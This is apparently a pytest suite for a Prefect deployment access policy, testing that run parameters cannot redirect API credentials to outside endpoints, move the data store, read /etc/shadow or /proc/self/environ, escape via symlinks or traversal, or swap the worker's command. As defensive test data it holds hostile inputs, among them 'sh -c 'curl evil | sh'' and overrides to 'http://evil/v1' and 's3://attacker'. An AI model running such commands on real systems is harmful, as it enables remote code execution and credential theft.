"""What a deployment's run may change (flows/access.py, docs/service.md "Access model").

An API caller chooses a deployment run's parameters. It must not point the worker's
credentials at its own URL (`extract.base_url`, `extract.api_key_env=AWS_SECRET_ACCESS_KEY`),
move the store, or make the worker read a file that is not a recipe (`config=/etc/shadow`)
and echo it into the run's log. These run in-process, no server: the deployment is a plain
object, as `prefect.client` returns it (tags, parameters). The wiring against a real stack
is in tests/flows/test_stack_e2e.py.
"""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path
from types import SimpleNamespace

import pytest

from flows import access
from flows.access import Policy, check_benchmark, check_run
from t2g.config import RecipeError

REPO = Path(__file__).resolve().parents[2]
MARKER = "root:$6$SHADOWMARKER$hash:19000:0:99999:7:::"
FULL = Policy.of(SimpleNamespace(tags=["t2g", "pipeline"], parameters={"config": "configs/tiny.yaml"}))


def _refused(fn, *args, **kwargs) -> str:
    with pytest.raises(RecipeError) as exc:
        fn(*args, **kwargs)
    return str(exc.value)


@pytest.fixture(autouse=True)
def _no_declared_dirs(monkeypatch):
    monkeypatch.delenv(access.RECIPE_DIRS_ENV, raising=False)
    monkeypatch.delenv(access.DATA_DIRS_ENV, raising=False)


def test_a_recipe_under_configs_is_allowed_and_resolved():
    assert check_run(FULL, "configs/tiny-gold.yaml", cwd=REPO) == (REPO / "configs" / "tiny-gold.yaml").resolve()
    assert check_run(
        FULL, "configs/tiny.yaml", overrides=["collect.sources.0.n=40", "extract.backend=openai"], cwd=REPO
    )


@pytest.mark.parametrize(
    "override",
    ["extract.base_url=http://127.0.0.1:9/v1", "extract.api_key_env=AWS_SECRET_ACCESS_KEY", "store=file:///tmp/x",
     "llm_cache=file:///tmp/cache", "teacher.base_url=http://evil/v1"],
)  # fmt: skip
def test_endpoint_and_credential_overrides_are_refused(override):
    message = _refused(check_run, FULL, "configs/tiny.yaml", overrides=["extract.backend=openai", override], cwd=REPO)
    assert override.split("=")[0] in message


def test_a_run_may_not_move_the_store_unless_the_deployment_says_so():
    message = _refused(check_run, FULL, "configs/tiny.yaml", store="file:///tmp/elsewhere", cwd=REPO)
    assert "store" in message and "t2g-allow:store" in message
    # The deployment's own store (prefect.yaml, or `prefect deploy --param store=...`) is the operator's choice.
    regen = Policy.of(
        SimpleNamespace(tags=[], parameters={"config": "configs/tiny.yaml", "store": "s3://t2g/regen/{date}"})
    )
    check_run(regen, "configs/tiny.yaml", store="s3://t2g/regen/{date}", cwd=REPO)
    _refused(check_run, regen, "configs/tiny.yaml", store="s3://attacker/regen", cwd=REPO)
    allowed = Policy.of(SimpleNamespace(tags=["t2g", "t2g-allow:store"], parameters={}))
    check_run(allowed, "configs/tiny.yaml", store="file:///tmp/elsewhere", cwd=REPO)


def test_the_deployment_allows_named_fields_and_its_own_overrides():
    endpoint = ["extract.backend=openai", "extract.base_url=http://models.internal/v1"]
    tagged = Policy.of(SimpleNamespace(tags=["t2g-allow:extract.base_url"], parameters={}))
    check_run(tagged, "configs/tiny.yaml", overrides=endpoint, cwd=REPO)
    _refused(
        check_run,
        tagged,
        "configs/tiny.yaml",
        overrides=[*endpoint, "extract.api_key_env=AWS_SECRET_ACCESS_KEY"],
        cwd=REPO,
    )
    own = Policy.of(SimpleNamespace(tags=[], parameters={"overrides": endpoint}))
    check_run(own, "configs/tiny.yaml", overrides=endpoint, cwd=REPO)
    _refused(check_run, own, "configs/tiny.yaml", overrides=["extract.base_url=http://evil/v1"], cwd=REPO)


@pytest.mark.parametrize("name", ["shadow", "shadow.yaml", "shadow.txt"])
def test_a_file_outside_the_recipe_folders_is_refused_without_being_read(tmp_path, name):
    secret = tmp_path / name
    secret.write_text(f"{MARKER}\nextract:\n  base_url: x\n")
    message = _refused(check_run, FULL, str(secret), cwd=REPO)
    assert "SHADOWMARKER" not in message and "$6$" not in message
    for path in ("/etc/shadow", "/etc/passwd", "/proc/self/environ", "configs/../../../etc/passwd"):
        message = _refused(check_run, FULL, path, cwd=REPO)
        assert "root:" not in message


def test_a_symlink_in_a_recipe_folder_does_not_lead_out_of_it(tmp_path, monkeypatch):
    recipes = tmp_path / "recipes"
    recipes.mkdir()
    (tmp_path / "outside.yaml").write_text(f"# {MARKER}\n")
    (recipes / "link.yaml").symlink_to(tmp_path / "outside.yaml")
    (recipes / "mine.yaml").write_text((REPO / "configs" / "tiny.yaml").read_text())
    _refused(check_run, FULL, str(recipes / "mine.yaml"), cwd=REPO)  # not declared yet
    monkeypatch.setenv(access.RECIPE_DIRS_ENV, str(recipes))
    assert check_run(FULL, str(recipes / "mine.yaml"), cwd=REPO) == (recipes / "mine.yaml").resolve()
    assert "SHADOWMARKER" not in _refused(check_run, FULL, str(recipes / "link.yaml"), cwd=REPO)


def test_the_deployments_own_recipe_is_allowed_wherever_it_is(tmp_path):
    own = tmp_path / "ops" / "nightly.yaml"
    own.parent.mkdir()
    own.write_text((REPO / "configs" / "tiny.yaml").read_text())
    policy = Policy.of(SimpleNamespace(tags=[], parameters={"config": str(own)}))
    assert check_run(policy, str(own), cwd=REPO) == own.resolve()
    (own.parent / "other.yaml").write_text("x: 1\n")
    _refused(check_run, policy, str(own.parent / "other.yaml"), cwd=REPO)


@pytest.mark.parametrize("index", ["../../etc/cron.d/x", "/abs", ".hidden", "a/b"])
def test_an_index_is_a_name_not_a_path(index):
    assert "index" in _refused(check_run, FULL, "configs/tiny.yaml", index=index, cwd=REPO)
    check_run(FULL, "configs/tiny.yaml", index="{date}", cwd=REPO)
    check_run(FULL, "configs/tiny.yaml", index="nightly-2026.03", cwd=REPO)


def test_a_benchmark_is_a_data_file(tmp_path, monkeypatch):
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "bench.jsonl").write_text("{}\n")
    assert check_benchmark("data/bench.jsonl", cwd=tmp_path) == (tmp_path / "data" / "bench.jsonl").resolve()
    for path in ("/etc/shadow", "/proc/self/environ", ".t2g/auth", "data/../.t2g/auth.jsonl"):
        _refused(check_benchmark, path, cwd=tmp_path)
    elsewhere = tmp_path / "benchmarks"
    elsewhere.mkdir()
    (elsewhere / "b.jsonl").write_text("{}\n")
    _refused(check_benchmark, str(elsewhere / "b.jsonl"), cwd=tmp_path)
    monkeypatch.setenv(access.DATA_DIRS_ENV, str(elsewhere))
    check_benchmark(str(elsewhere / "b.jsonl"), cwd=tmp_path)


def test_the_flows_deployments_run_check_before_loading(monkeypatch, tmp_path):
    """The three entry points of deployments/prefect.yaml refuse before reading the recipe;
    outside a deployment (`t2g run`) the same call is not checked."""
    from flows.pipeline import pipeline
    from flows.service import evaluate_model, train_from_data

    secret = tmp_path / "shadow"
    secret.write_text(MARKER + "\n")
    monkeypatch.setattr(access, "deployment_policy", lambda: FULL)
    evil = ["extract.backend=openai", "extract.base_url=http://127.0.0.1:9/v1"]
    for call in (
        lambda: pipeline.fn(config=str(secret)),
        lambda: pipeline.fn(config="configs/tiny.yaml", overrides=evil),
        lambda: train_from_data.fn(config="configs/tiny.yaml", data="file:///x/reason/k", store="file:///x"),
        lambda: evaluate_model.fn(config="configs/tiny.yaml", model="m", benchmark="/etc/passwd"),
    ):
        with pytest.raises(RecipeError) as exc:
            call()
        assert "SHADOWMARKER" not in str(exc.value) and "refused" in str(exc.value)
    monkeypatch.setattr(access, "deployment_policy", lambda: None)  # not a deployment's run
    assert access.guard(str(secret), overrides=evil) == str(secret)


def test_a_runs_job_variables_cannot_change_the_command_or_environment():
    """The stack's pools (and compose's) use process-locked.json: a caller who sets
    `--job-variable command=...` or `env=...` on a run changes nothing the worker starts."""
    from prefect.workers.process import ProcessJobConfiguration, ProcessWorker

    locked = json.loads((REPO / "deployments" / "work-pools" / "process-locked.json").read_text())
    evil = {
        "command": "sh -c 'curl evil | sh'",
        "env": {access.RECIPE_DIRS_ENV: "/etc"},
        "env.PATH": "/tmp",
        "working_dir": "/",
    }
    config = asyncio.run(ProcessJobConfiguration.from_template_and_values(locked, evil, client=object()))
    assert config.command is None and not config.env and config.working_dir is None
    # Prefect's default template would have taken them (why the stack replaces it).
    default = asyncio.run(
        ProcessJobConfiguration.from_template_and_values(
            ProcessWorker.get_default_base_job_template(), evil, client=object()
        )
    )
    assert default.command == evil["command"]
    # Otherwise the same template: the worker's own fields are all still there.
    assert set(locked["variables"]["properties"]) == {"name", "labels", "stream_output"}


def test_deployment_policy_reads_tags_and_parameters():
    d = SimpleNamespace(tags=["t2g", "t2g-allow:store", "t2g-allow:extract.base_url"], parameters={"store": "s3://b/p"})
    assert Policy.of(d) == Policy(parameters={"store": "s3://b/p"}, allow=frozenset({"store", "extract.base_url"}))
    assert Policy.of(SimpleNamespace(tags=None, parameters=None)) == Policy()


def test_stack_auth_file_is_owner_only_and_fresh(tmp_path):
    from flows.stack import auth_file, new_auth, read_auth

    old = os.umask(0)  # even a permissive umask gives an owner-only file
    try:
        first = new_auth(tmp_path)
    finally:
        os.umask(old)
    assert auth_file(tmp_path).stat().st_mode & 0o777 == 0o600
    assert read_auth(tmp_path) == first and first.startswith("t2g:") and len(first) > 40
    assert new_auth(tmp_path) != first and auth_file(tmp_path).stat().st_mode & 0o777 == 0o600


def test_a_flow_run_that_is_not_a_deployments_has_no_policy(prefect_api):
    """`t2g run` and flows called from Python run unchecked: the flow run has no deployment
    (asked of the real server the suite shares)."""
    from prefect import flow

    @flow
    def probe():
        return access.deployment_policy(), access.guard("/anywhere/recipe.yaml", store="file:///x")

    assert probe() == (None, "/anywhere/recipe.yaml")
